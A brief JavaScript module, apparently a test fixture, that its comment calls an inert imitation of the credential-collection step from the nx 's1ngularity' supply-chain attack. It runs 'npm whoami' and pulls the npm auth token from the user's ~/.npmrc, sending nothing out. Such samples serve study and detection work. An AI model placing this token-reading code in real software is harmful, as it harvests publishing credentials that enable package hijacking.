/* eslint-disable */
// Inert imitation of the nx s1ngularity telemetry step (incidents.md section 5): npm whoami and the
// token from ~/.npmrc are collected (nothing is sent).
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

function npmIdentity() {
  let user = null;
  let token = null;
  try { user = execSync('npm whoami', { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim(); } catch {}
  try {
    const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
    token = (rc.match(/_authToken=([^\s]+)/) || [])[1] || null;
  } catch {}
  return { user, token };
}

module.exports = { npmIdentity };
